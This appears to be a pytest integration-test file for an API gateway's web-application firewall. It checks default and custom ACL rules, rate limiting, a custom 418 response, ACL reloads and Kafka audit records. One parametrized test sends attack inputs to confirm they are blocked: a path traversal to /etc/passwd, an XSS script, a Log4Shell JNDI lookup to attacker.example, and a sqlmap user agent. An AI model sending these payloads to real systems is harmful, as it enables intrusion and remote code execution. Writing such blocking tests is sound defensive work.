"""The WAF step over HTTP: the shipped default web ACL, a rate-based rule, a custom response,
reloads, and the audit record's waf fields, against the real gateway and Kafka."""
import json
import os
import re
import time
import uuid

import pytest
import requests

from harness import FakeWorker, Gateway, consume_all, create_topics, new_key, new_prefix, \
    reply_envelope, write_keys_file

PLANS = {"default": {"throttle": {"rate": 1000, "burst": 2000}, "quota": {"limit": 10000, "period": "DAY"}}}
FORBIDDEN = '{"message":"Forbidden"}'


def handler(env, msg):
    return reply_envelope(env, 200, {"Content-Type": ["application/json"]}, b'{"ok":true}')


def write_acl(path, doc):
    tmp = f"{path}.tmp-{uuid.uuid4().hex[:6]}"
    with open(tmp, "w") as f:
        json.dump(doc, f)
    os.replace(tmp, path)


def byte_rule(name, priority, search, action, field=None):
    return {"Name": name, "Priority": priority, "Action": action,
            "VisibilityConfig": {"SampledRequestsEnabled": True, "CloudWatchMetricsEnabled": True,
                                 "MetricName": name},
            "Statement": {"ByteMatchStatement": {
                "SearchString": search, "FieldToMatch": field or {"UriPath": {}},
                "PositionalConstraint": "STARTS_WITH",
                "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}}}


TINY_ACL = {
    "Name": "tiny", "DefaultAction": {"Allow": {}},
    "CustomResponseBodies": {"teapot": {"ContentType": "APPLICATION_JSON",
                                        "Content": '{"message":"no tea here"}'}},
    "Rules": [
        {"Name": "rate10", "Priority": 0, "Action": {"Block": {}},
         "VisibilityConfig": {"SampledRequestsEnabled": True, "CloudWatchMetricsEnabled": True,
                              "MetricName": "rate10"},
         "Statement": {"RateBasedStatement": {
             "Limit": 10, "EvaluationWindowSec": 60, "AggregateKeyType": "IP",
             "ScopeDownStatement": {"ByteMatchStatement": {
                 "SearchString": "/limited", "FieldToMatch": {"UriPath": {}},
                 "PositionalConstraint": "STARTS_WITH",
                 "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}}}}},
        byte_rule("teapot", 1, "/teapot", {"Block": {"CustomResponse": {
            "ResponseCode": 418, "CustomResponseBodyKey": "teapot",
            "ResponseHeaders": [{"Name": "why", "Value": "teapot"}]}}}),
        byte_rule("blocked", 2, "/blocked", {"Block": {}}),
    ]}


@pytest.fixture(scope="module")
def stack(build_dir, kafka_bootstrap, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("waf")
    prefix = new_prefix()
    create_topics(kafka_bootstrap, prefix)
    value, kid, digest = new_key()
    keys_file = tmp / "keys.json"
    write_keys_file(keys_file, [{"id": kid, "hash": digest}], PLANS)
    worker = FakeWorker(kafka_bootstrap, prefix, handler).start()
    acl_file = tmp / "acl.json"
    write_acl(acl_file, TINY_ACL)
    default_gw = Gateway(build_dir, tmp, kafka_bootstrap, prefix, keys_file).start()
    tiny_gw = Gateway(build_dir, tmp, kafka_bootstrap, prefix, keys_file, index=1,
                      SLUICE_WAF_ACL_FILE=str(acl_file)).start()
    yield {"default": default_gw, "tiny": tiny_gw, "key": value, "prefix": prefix, "tmp": tmp,
           "acl_file": acl_file, "keys_file": keys_file, "build_dir": build_dir,
           "bootstrap": kafka_bootstrap}
    codes = default_gw.stop(), tiny_gw.stop()
    worker.stop()
    assert codes == (0, 0), default_gw.log_text()[-2000:] + tiny_gw.log_text()[-2000:]


def get(gw, path, key=None, **headers):
    h = {"User-Agent": "waf-it/1"}
    if key:
        h["X-API-Key"] = key
    h.update(headers)
    return requests.get(gw.url + path, headers=h, timeout=10)


def assert_waf_403(r):
    assert r.status_code == 403, r.text
    assert r.text == FORBIDDEN
    assert r.headers["x-amzn-ErrorType"] == "WAFFilteredException"
    assert re.match(r"^[0-9a-f-]{36}$", r.headers["x-amzn-RequestId"])


def audit_record(bootstrap, prefix, request_id):
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline:
        for m in consume_all(bootstrap, prefix + "audit"):
            rec = json.loads(m.value())
            if rec["request_id"] == request_id:
                return rec
    raise AssertionError(f"no audit record for {request_id}")


def test_default_acl_lets_normal_requests_through_and_audits_default_action(stack):
    r = get(stack["default"], "/items/1?expand=true", stack["key"])
    assert r.status_code == 200, r.text
    rec = audit_record(stack["bootstrap"], stack["prefix"], r.headers["x-amzn-RequestId"])
    assert rec["waf"] == {"action": "ALLOW", "rule": "Default_Action", "labels": []}


def test_default_acl_blocks_host_localhost_with_403_and_audits_the_rule_and_label(stack):
    r = get(stack["default"], "/items/1", stack["key"], Host="localhost")
    assert_waf_403(r)
    rec = audit_record(stack["bootstrap"], stack["prefix"], r.headers["x-amzn-RequestId"])
    assert rec["waf"] == {"action": "BLOCK", "rule": "AWSManagedRulesKnownBadInputsRuleSet",
                          "labels": ["awswaf:managed:aws:known-bad-inputs:Host_Localhost_Header"]}
    assert rec["status"] == 403 and rec["error"] == "waf_blocked"


@pytest.mark.parametrize("path,headers,rule", [
    ("/?file=../../etc/passwd", {}, "GenericLFI_QUERYARGUMENTS"),
    ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", {}, "CrossSiteScripting_QUERYARGUMENTS"),
    ("/", {"X-Api-Version": "${jndi:ldap://attacker.example/a}"}, "Log4JRCE_HEADER"),
    ("/WEB-INF/web.xml", {}, "ExploitablePaths_URIPATH"),
    ("/", {"User-Agent": "sqlmap/1.7.2#stable"}, "UserAgent_BadBots_HEADER"),
])
def test_default_acl_blocks_attacks_before_the_key_check(stack, path, headers, rule):
    r = get(stack["default"], path, None, **headers)  # no key: the WAF answers first
    assert_waf_403(r)
    metric = stack["default"].metrics()
    assert re.search(r'sluice_gateway_waf_requests_total\{rule="[A-Za-z]+:' + rule +
                     r'",action="BLOCK"\} [1-9]', metric), rule


def test_rate_based_rule_blocks_after_the_limit_within_the_window(stack):
    gw = stack["tiny"]
    for i in range(10):
        r = get(gw, f"/limited/{i}", stack["key"])
        assert r.status_code == 200, (i, r.text)
    for i in range(3):
        assert_waf_403(get(gw, "/limited/x", stack["key"]))
    # Outside the scope-down statement the same address is not limited.
    assert get(gw, "/free", stack["key"]).status_code == 200
    assert gw.metric('sluice_gateway_waf_requests_total{rule="rate10",action="BLOCK"}') == 3


def test_custom_response_uses_its_status_and_body(stack):
    r = get(stack["tiny"], "/teapot", stack["key"])
    assert r.status_code == 418
    assert r.text == '{"message":"no tea here"}'


def test_acl_file_change_applies_and_a_bad_file_keeps_the_acl_in_force(stack):
    gw, path = stack["tiny"], stack["acl_file"]
    assert_waf_403(get(gw, "/blocked", stack["key"]))
    doc = json.loads(json.dumps(TINY_ACL))
    doc["Rules"][2] = byte_rule("blocked", 2, "/now-blocked", {"Block": {}})
    write_acl(path, doc)
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and get(gw, "/blocked", stack["key"]).status_code != 200:
        time.sleep(0.1)
    assert get(gw, "/blocked", stack["key"]).status_code == 200
    assert_waf_403(get(gw, "/now-blocked", stack["key"]))
    bad = json.loads(json.dumps(doc))
    bad["Rules"][2]["Statement"]["ByteMatchStatement"]["PositionalConstraint"] = "START"
    write_acl(path, bad)
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and "Rules[2].Statement.ByteMatchStatement." \
            "PositionalConstraint" not in gw.log_text():
        time.sleep(0.1)
    assert 'Rules[2].Statement.ByteMatchStatement.PositionalConstraint: \\"START\\" is not one ' \
           'of EXACTLY, STARTS_WITH, ENDS_WITH, CONTAINS, CONTAINS_WORD' in gw.log_text()
    assert_waf_403(get(gw, "/now-blocked", stack["key"]))  # the previous ACL stays
    write_acl(path, TINY_ACL)


def test_gateway_refuses_to_start_on_an_invalid_acl_naming_file_and_path(stack):
    bad = stack["tmp"] / "bad-acl.json"
    write_acl(bad, {"DefaultAction": {"Allow": {}}, "Rules": [
        {"Name": "x", "Priority": 0, "Action": {"Block": {}},
         "Statement": {"RateBasedStatement": {"Limit": 5, "AggregateKeyType": "IP"}}}]})
    gw = Gateway(stack["build_dir"], stack["tmp"], stack["bootstrap"], stack["prefix"],
                 stack["keys_file"], index=2, SLUICE_WAF_ACL_FILE=str(bad))
    with pytest.raises(AssertionError) as e:
        gw.start(timeout=10)
    assert f"{bad}: Rules[0].Statement.RateBasedStatement.Limit: 5 is out of range " \
           "10..2000000000" in str(e.value)
